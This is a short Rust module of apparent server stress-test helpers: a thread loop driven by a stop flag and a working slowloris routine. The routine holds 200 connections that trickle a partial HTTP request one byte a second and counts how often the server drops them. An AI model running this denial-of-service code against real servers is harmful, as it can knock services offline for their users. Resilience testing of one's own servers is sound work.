//! Abusers of a server's port, each on its own thread until told to stop.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::Duration;

/// Runs `abuse` in a loop on its own thread until `stop` is set.
pub fn keep_doing(
    stop: &Arc<AtomicBool>,
    mut abuse: impl FnMut() + Send + 'static,
) -> JoinHandle<()> {
    let stop = Arc::clone(stop);
    std::thread::spawn(move || {
        while !stop.load(Ordering::Relaxed) {
            abuse();
        }
    })
}

/// Keeps 200 connections that each send one byte a second of a request
/// head for `path`, reconnecting whichever the server closes (counted in
/// `reconnects`).
pub fn slowloris(
    addr: SocketAddr,
    path: &'static str,
    stop: &Arc<AtomicBool>,
    reconnects: Arc<AtomicU64>,
) -> JoinHandle<()> {
    let stop = Arc::clone(stop);
    std::thread::spawn(move || {
        let head =
            format!("GET {path} HTTP/1.1\r\nHost: x\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
        let head = head.as_bytes();
        let mut clients: Vec<(Option<TcpStream>, usize)> = (0..200).map(|_| (None, 0)).collect();
        while !stop.load(Ordering::Relaxed) {
            for (stream, sent) in &mut clients {
                // EOF on a non-blocking read: the server closed it (a write
                // would only fail a round trip later).
                let closed = stream
                    .as_mut()
                    .is_some_and(|open| matches!(open.read(&mut [0u8; 64]), Ok(0)));
                if stream.is_none() || closed {
                    *stream = TcpStream::connect(addr).ok();
                    if let Some(open) = stream.as_ref() {
                        let _ = open.set_nonblocking(true);
                    }
                    *sent = 0;
                    reconnects.fetch_add(1, Ordering::Relaxed);
                }
                let byte = [head[*sent % head.len()]];
                if stream
                    .as_mut()
                    .is_some_and(|open| open.write_all(&byte).is_err())
                {
                    *stream = None;
                }
                *sent += 1;
            }
            std::thread::sleep(Duration::from_secs(1));
        }
    })
}
